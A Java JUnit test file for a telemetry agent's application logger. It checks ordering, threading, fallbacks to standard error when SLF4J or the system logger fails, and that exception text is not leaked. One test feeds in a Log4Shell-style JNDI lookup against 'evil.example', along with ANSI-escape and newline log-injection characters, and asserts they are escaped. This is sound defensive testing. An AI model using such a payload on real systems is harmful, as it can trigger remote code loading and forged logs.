package io.loopsentinel.agent.telemetry.logger;

import static org.assertj.core.api.Assertions.assertThat;

import io.loopsentinel.agent.telemetry.AgentLog;
import io.loopsentinel.agent.telemetry.MainThread;
import io.loopsentinel.agent.telemetry.event.EventBus;
import io.loopsentinel.targets.config.LogDestination;
import io.loopsentinel.targets.config.LogLevel;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.lang.reflect.Proxy;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import net.bytebuddy.ByteBuddy;
import net.bytebuddy.description.modifier.Ownership;
import net.bytebuddy.description.modifier.Visibility;
import net.bytebuddy.dynamic.loading.ClassLoadingStrategy;
import net.bytebuddy.implementation.FixedValue;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The way of lines to a logger of the application. */
class ApplicationLogTest {

  private static final Duration TIMEOUT = Duration.ofMinutes(5);

  /** Keeps what the application's logging is handed, and on which thread. */
  private static class Keeping extends Handler {

    final List<String> records = Collections.synchronizedList(new ArrayList<>());

    @Override
    public void publish(LogRecord logged) {
      records.add(
          Thread.currentThread().getName() + " " + logged.getLevel() + " " + logged.getMessage());
    }

    @Override
    public void flush() {}

    @Override
    public void close() {}
  }

  private final Logger logger = Logger.getLogger(ApplicationLog.NAME);
  private final Keeping keeping = new Keeping();
  private final List<String> others = Collections.synchronizedList(new ArrayList<>());
  private final List<Throwable> failures = Collections.synchronizedList(new ArrayList<>());
  private final EventBus bus = new EventBus(failures::add);

  @BeforeEach
  void listen() {
    logger.setUseParentHandlers(false);
    logger.setLevel(Level.ALL);
    logger.addHandler(keeping);
  }

  @AfterEach
  void leave() {
    for (Handler handler : logger.getHandlers()) {
      logger.removeHandler(handler);
    }
    logger.setUseParentHandlers(true);
    logger.setLevel(null);
    bus.close(TIMEOUT);
  }

  @Test
  void handsLinesOverInOrderOnTheThreadOfTheBus() {
    AgentLog log = log(LogDestination.SYSTEM_LOGGER, MainThread.running());

    log.error("one");
    log.warn("two");
    log.info("three");
    log.debug("four\u001b[2J\nforged ${jndi:ldap://evil.example/x}");
    bus.close(TIMEOUT);

    assertThat(keeping.records)
        .containsExactly(
            "loop-sentinel events SEVERE one",
            "loop-sentinel events WARNING two",
            "loop-sentinel events INFO three",
            "loop-sentinel events FINE four\\u001b[2J\\n"
                + "forged $\\u007bjndi:ldap://evil.example/x}");
    assertThat(others).isEmpty();
    assertThat(failures).isEmpty();
  }

  @Test
  void writesElsewhereUntilMainHasBegun() throws InterruptedException {
    // given: the frames of a thread that has not come to the application's main are the JDK's
    List<MainThread> starting = new ArrayList<>();
    Thread thread = new Thread(() -> beforeMain(starting));
    thread.start();
    synchronized (starting) {
      while (starting.isEmpty()) {
        starting.wait();
      }
    }
    AgentLog log = log(LogDestination.SYSTEM_LOGGER, starting.get(0));

    log.warn("before");
    synchronized (starting) {
      starting.clear();
      starting.notifyAll();
    }
    thread.join();
    log.warn("after");
    bus.close(TIMEOUT);

    assertThat(others).containsExactly("WARN before");
    assertThat(keeping.records).containsExactly("loop-sentinel events WARNING after");
  }

  @Test
  void writesElsewhereOnceTheBusHasClosed() {
    AgentLog log = log(LogDestination.SYSTEM_LOGGER, MainThread.running());

    bus.close(TIMEOUT);
    log.warn("late");

    assertThat(others).containsExactly("WARN late");
    assertThat(keeping.records).isEmpty();
  }

  @Test
  void writesElsewhereIfSlf4jHasNoProvider() {
    AgentLog log = log(LogDestination.SLF4J, MainThread.running());

    log.warn("one");
    bus.close(TIMEOUT);

    assertThat(others)
        .containsExactly(
            "WARN telemetry.log_to: slf4j has no provider; lines go to standard error", "WARN one");
  }

  @Test
  void reportsMissingLoggerOnceAndUsesTheFallback() throws InterruptedException {
    AgentLog log = log(LogDestination.SLF4J, endedThreadOf(ClassLoader.getPlatformClassLoader()));

    log.warn("one");
    log.info("two");
    bus.close(TIMEOUT);

    assertThat(others)
        .containsExactly(
            "WARN telemetry.log_to: slf4j is not visible to the application's class loader; lines"
                + " go to standard error",
            "WARN one",
            "INFO two");
  }

  @Test
  void usesTheFallbackIfTheLoggerFails() {
    logger.addHandler(
        new Keeping() {
          @Override
          public void publish(LogRecord logged) {
            throw new IllegalStateException("the user's secret");
          }
        });
    AgentLog log = log(LogDestination.SYSTEM_LOGGER, MainThread.running());

    log.warn("one");
    log.warn("two");
    bus.close(TIMEOUT);

    assertThat(others)
        .containsExactly(
            "WARN telemetry.log_to: system_logger fails with java.lang.IllegalStateException; lines"
                + " go to standard error",
            "WARN one",
            "WARN two");
  }

  @Test
  void namesTheFailureOfTheLoggerOfSlf4j() throws InterruptedException {
    AgentLog log = log(LogDestination.SLF4J, endedThreadOf(loaderOfFailingSlf4j()));

    log.warn("one");
    bus.close(TIMEOUT);

    assertThat(others)
        .containsExactly(
            "WARN telemetry.log_to: slf4j fails with java.io.UncheckedIOException; lines go to"
                + " standard error",
            "WARN one");
  }

  /** Returns a loader with a factory of loggers that fail. */
  private static @Nullable ClassLoader loaderOfFailingSlf4j() {
    ClassLoader parent = org.slf4j.Logger.class.getClassLoader();
    Class<?>[] types = {org.slf4j.Logger.class};
    Object failing =
        Proxy.newProxyInstance(
            parent,
            types,
            (self, method, arguments) -> {
              if (method.getDeclaringClass() == Object.class) {
                return method.invoke(types, arguments);
              }
              throw new UncheckedIOException(new IOException("the user's secret"));
            });
    return new ByteBuddy()
        .subclass(Object.class)
        .name("org.slf4j.LoggerFactory")
        .defineMethod("getLogger", Object.class, Visibility.PUBLIC, Ownership.STATIC)
        .withParameters(String.class)
        .intercept(FixedValue.reference(failing, "logger"))
        .make()
        .load(parent, ClassLoadingStrategy.Default.CHILD_FIRST)
        .getLoaded()
        .getClassLoader();
  }

  private AgentLog log(LogDestination destination, MainThread main) {
    ApplicationLog output =
        new ApplicationLog(destination, (level, line) -> others.add(level + " " + line), main, bus);
    return new AgentLog(output, LogLevel.DEBUG);
  }

  private static void beforeMain(List<MainThread> starting) {
    synchronized (starting) {
      starting.add(MainThread.current());
      starting.notifyAll();
      try {
        while (!starting.isEmpty()) {
          starting.wait();
        }
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
    }
  }

  private static MainThread endedThreadOf(@Nullable ClassLoader loader)
      throws InterruptedException {
    List<MainThread> ended = new ArrayList<>();
    Thread thread = new Thread(() -> ended.add(MainThread.current()));
    thread.setContextClassLoader(loader);
    thread.start();
    thread.join();
    return ended.get(0);
  }
}
